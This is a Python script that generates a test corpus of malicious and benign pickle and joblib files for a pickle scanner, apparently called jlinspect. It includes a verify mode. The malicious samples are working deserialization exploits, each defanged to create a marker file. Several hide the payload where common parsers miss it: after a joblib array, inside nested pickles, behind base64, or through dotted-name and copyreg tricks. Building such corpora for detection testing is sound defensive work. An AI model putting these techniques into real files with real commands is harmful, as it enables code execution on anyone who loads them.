#!/usr/bin/python3
"""Build the jlinspect sample corpus: small malicious pickles (mal_*) and benign ones
(ok_*). The files are committed; run this again only to change the corpus:

    /usr/bin/python3 tests/cli/samples/make_samples.py tests/cli/samples

Each malicious sample that would execute something does so harmlessly: it creates the
file pwned-<sample> in the current directory. `--verify DIR` loads every sample with
Python in a scratch directory (pickle.load, or joblib.load for joblib files) and checks
that exactly the samples marked as executing created their marker: the corpus holds
working exploits, not just suspicious-looking bytes. Never run --verify on files you
did not make with this script.

Python 3 and joblib, numpy (Debian's /usr/bin/python3 has them).
"""
import gzip
import io
import os
import pickle
import pickletools
import shutil
import subprocess
import sys
import tempfile

import joblib
import numpy as np

# name -> (bytes, loader, executes): loader "pickle" or "joblib"; executes: whether
# loading it with that loader runs the payload.
SAMPLES = {}


def add(name, data, loader="pickle", executes=False):
    SAMPLES[name] = (data, loader, executes)


def touch(name):
    return ("touch pwned-%s" % name).encode()


def p0_str(s):
    """A protocol 0 STRING opcode."""
    return b"S'" + s + b"'\n"


def joblib_bytes(value, **kw):
    buf = io.BytesIO()
    joblib.dump(value, buf, **kw)
    return buf.getvalue()


def mal_os_system_reduce():
    n = "mal_os_system_reduce.pkl"
    add(n, b"cos\nsystem\n(" + p0_str(touch(n)) + b"tR.", executes=True)


def mal_reduce_p4():
    """What pickle.dumps writes for an object whose __reduce__ returns os.system: protocol
    4 with FRAME and STACK_GLOBAL 'posix' 'system'; gzip-compressed as joblib would."""
    n = "mal_reduce_p4.pkl.gz"

    class Payload:
        def __reduce__(self):
            return (os.system, (touch(n).decode(),))

    raw = pickle.dumps(Payload(), protocol=4)
    add(n, gzip.compress(raw, mtime=0), executes=True)


def mal_stack_global_memo():
    """STACK_GLOBAL whose operands come from the memo, after the strings were popped."""
    n = "mal_stack_global_memo.pkl"
    cmd = touch(n)
    data = (b"\x80\x04"
            b"\x8c\x02os\x94"            # memo 0
            b"\x8c\x06system\x94"        # memo 1
            b"00"                        # POP both: nothing named on the stack
            b"]\x94"                     # a harmless list, memo 2
            b"h\x00h\x01\x93"            # BINGET 0, BINGET 1, STACK_GLOBAL
            b"\x8c" + bytes([len(cmd)]) + cmd + b"\x85R"  # TUPLE1, REDUCE
            b"0.")                       # POP the result, return the list
    add(n, data, executes=True)


def mal_joblib_after_array():
    """A joblib file (protocol 4, one array) with a REDUCE hidden between the array
    payload and the final STOP: plain pickle parsers stop at the payload bytes."""
    n = "mal_joblib_after_array.pkl"
    base = joblib_bytes(np.arange(5, dtype="<i8"), protocol=4)
    assert base.endswith(b".")
    evil = b"cos\nsystem\n(" + p0_str(touch(n)) + b"tR0"
    add(n, base[:-1] + evil + b".", loader="joblib", executes=True)


def mal_obj_pop():
    """OBJ calls its class with the arguments; POP drops the result."""
    n = "mal_obj_pop.pkl"
    add(n, b"(cos\nsystem\n" + p0_str(touch(n)) + b"o0N.", executes=True)


def mal_inst():
    n = "mal_inst.pkl"
    add(n, b"(" + p0_str(touch(n)) + b"ios\nsystem\n.", executes=True)


def mal_nested_objarray():
    """A joblib object array whose nested pickle (the array payload) holds a REDUCE."""
    n = "mal_nested_objarray.pkl"
    base = joblib_bytes(np.array([1, "a", None], dtype=object), protocol=4)
    # the first STOP pickletools meets is the nested pickle's: the outer STOP is last
    stop = None
    for op, arg, pos in pickletools.genops(base):
        if op.name == "STOP":
            stop = pos
            break
    assert stop is not None and stop < len(base) - 1
    evil = b"cposix\nsystem\n(" + p0_str(touch(n)) + b"tR0"
    add(n, base[:stop] + evil + base[stop:], loader="joblib", executes=True)


def mal_getattr_chain():
    """getattr(__import__('os'), 'system')('touch ...')"""
    n = "mal_getattr_chain.pkl"
    data = (b"\x80\x02cbuiltins\ngetattr\n(cbuiltins\n__import__\n(" + p0_str(b"os") + b"tR"
            + p0_str(b"system") + b"tR(" + p0_str(touch(n)) + b"tR.")
    add(n, data, executes=True)


def mal_dotted_globals():
    """protocol 4 STACK_GLOBAL of numpy.core.multiarray + '_reconstruct.__globals__':
    an allowlisted module, then an attribute walk into the module's globals (and from
    there to __builtins__). Named only: loading it returns the dict."""
    n = "mal_dotted_globals.pkl"
    mod, name = b"numpy.core.multiarray", b"_reconstruct.__globals__"
    data = (b"\x80\x04\x8c" + bytes([len(mod)]) + mod + b"\x8c" + bytes([len(name)]) + name
            + b"\x93.")
    add(n, data)


def mal_dotted_qualname_p4():
    """protocol 4 STACK_GLOBAL('numpy', 'lib.utils.os.system'): find_class walks the
    dotted qualname from an innocent-looking module to os.system."""
    n = "mal_dotted_qualname_p4.pkl"
    mod, name, cmd = b"numpy", b"lib.utils.os.system", touch(n)
    data = (b"\x80\x04\x8c" + bytes([len(mod)]) + mod + b"\x8c" + bytes([len(name)]) + name
            + b"\x93\x8c" + bytes([len(cmd)]) + cmd + b"\x85R.")
    add(n, data, executes=True)


def mal_popen_newobj():
    """NEWOBJ of subprocess.Popen: cls.__new__ only (no __init__), so nothing runs,
    but the pickle names a process launcher."""
    n = "mal_popen_newobj.pkl"
    data = (b"\x80\x04\x8c\nsubprocess\x8c\x05Popen\x93(\x8c\x05touch\x8c"
            + bytes([len("pwned-" + n)]) + ("pwned-" + n).encode() + b"l\x85\x81.")
    add(n, data)


def mal_reconstructor_exec():
    """copyreg._reconstructor(functools.partial, functools.partial, builtins.exec) builds
    partial(exec) with an allowlisted callable; REDUCE then calls it with source code."""
    n = "mal_reconstructor_exec.pkl"
    code = ("open('pwned-%s', 'w').close()" % n).encode()
    data = (b"ccopyreg\n_reconstructor\n(cfunctools\npartial\ncfunctools\npartial\ncbuiltins\nexec\ntR"
            b"(" + p0_str(code) + b"tR.")
    add(n, data, executes=True)


def mal_reconstructor_popen():
    """copyreg._reconstructor(Popen, Popen, [...]) runs Popen.__init__(obj, [...])."""
    n = "mal_reconstructor_popen.pkl"
    data = (b"ccopyreg\n_reconstructor\n(csubprocess\nPopen\ncsubprocess\nPopen\n(l"
            + p0_str(b"touch") + b"a" + p0_str(("pwned-" + n).encode()) + b"atR.")
    add(n, data, executes=True)


def mal_pickle_loads_base64():
    """pickle.loads(codecs.decode(<base64 text>, 'base64')): the real payload is a second
    pickle hidden in a string."""
    n = "mal_pickle_loads_base64.pkl"
    import base64
    inner = b"cos\nsystem\n(" + p0_str(touch(n)) + b"tR."
    b64 = base64.b64encode(inner)
    data = (b"\x80\x03cpickle\nloads\n(ccodecs\ndecode\n(B" + len(b64).to_bytes(4, "little") + b64
            + p0_str(b"base64") + b"tRtR.")
    add(n, data, executes=True)


def mal_memmap_newobj():
    """NEWOBJ of numpy.memmap (safe to name: joblib records it as an array subclass):
    memmap.__new__ with mode 'w+' creates or truncates the file it is given."""
    n = "mal_memmap_newobj.pkl"
    path = ("pwned-" + n).encode()
    data = (b"\x80\x02cnumpy\nmemmap\n(X" + len(path).to_bytes(4, "little") + path
            + b"X\x02\x00\x00\x00u1X\x02\x00\x00\x00w+K\x00K\x01\x85t\x81.")
    add(n, data, executes=True)


def ok_samples():
    add("ok_plain_dict_p2.pkl", pickle.dumps(
        {"name": "model", "sizes": [1, 2, 3], "pair": (1.5, None), "flags": {True, False},
         "blob": b"\x00\x01ab", "big": 2 ** 70, "neg": -0.0}, protocol=2))
    add("ok_numpy_reduce_p4.pkl", pickle.dumps(np.arange(6, dtype="<i4").reshape(2, 3), protocol=4))
    add("ok_joblib_arrays.pkl", joblib_bytes(
        {"a": np.arange(3.0), "f": np.asfortranarray(np.ones((2, 3), dtype="<f4")),
         "s": np.array(["ab", "c"])}, protocol=4), loader="joblib")
    add("ok_random_state.pkl", joblib_bytes(np.random.RandomState(0), protocol=4), loader="joblib")
    shared = [1, 2]
    cyc = {"x": shared, "y": shared}
    cyc["self"] = cyc
    deep = []
    cur = deep
    for _ in range(12):
        nxt = []
        cur.append(nxt)
        cur = nxt
    cyc["deep"] = deep
    cyc["many"] = list(range(30))
    add("ok_shared_cycle_p4.pkl", pickle.dumps(cyc, protocol=4))


def build(outdir):
    for fn in (mal_os_system_reduce, mal_reduce_p4, mal_stack_global_memo, mal_joblib_after_array,
               mal_obj_pop, mal_inst, mal_nested_objarray, mal_getattr_chain, mal_dotted_globals,
               mal_dotted_qualname_p4, mal_popen_newobj, mal_reconstructor_exec,
               mal_reconstructor_popen, mal_pickle_loads_base64, mal_memmap_newobj, ok_samples):
        fn()
    for name, (data, _, _) in sorted(SAMPLES.items()):
        with open(os.path.join(outdir, name), "wb") as f:
            f.write(data)
    with open(os.path.join(outdir, "MANIFEST"), "w") as f:
        f.write("# sample loader executes (written by make_samples.py)\n")
        for name, (_, loader, executes) in sorted(SAMPLES.items()):
            f.write("%s %s %s\n" % (name, loader, "yes" if executes else "no"))


VERIFY = r"""
import gzip, pickle, sys, time, joblib
name, loader, path = sys.argv[1:4]
try:
    if loader == "joblib":
        joblib.load(path)
    else:
        opener = gzip.open if path.endswith(".gz") else open
        with opener(path, "rb") as f:
            pickle.load(f)
except Exception as e:
    print("raised %s: %s" % (type(e).__name__, e))
time.sleep(0.3)
"""


def verify(indir):
    lines = [l.split() for l in open(os.path.join(indir, "MANIFEST")) if not l.startswith("#")]
    bad = 0
    for name, loader, executes in lines:
        with tempfile.TemporaryDirectory() as tmp:
            shutil.copy(os.path.join(indir, name), tmp)
            r = subprocess.run([sys.executable, "-c", VERIFY, name, loader, name], cwd=tmp,
                               capture_output=True, text=True, timeout=60)
            ran = os.path.exists(os.path.join(tmp, "pwned-" + name))
            ok = ran == (executes == "yes")
            bad += not ok
            print("%-4s %-32s %-6s executes=%s ran=%s %s" % ("ok" if ok else "BAD", name, loader,
                                                            executes, ran, r.stdout.strip()[:60]))
    return 1 if bad else 0


def main():
    if len(sys.argv) == 3 and sys.argv[1] == "--verify":
        sys.exit(verify(sys.argv[2]))
    if len(sys.argv) != 2:
        sys.exit(__doc__)
    build(sys.argv[1])


if __name__ == "__main__":
    main()
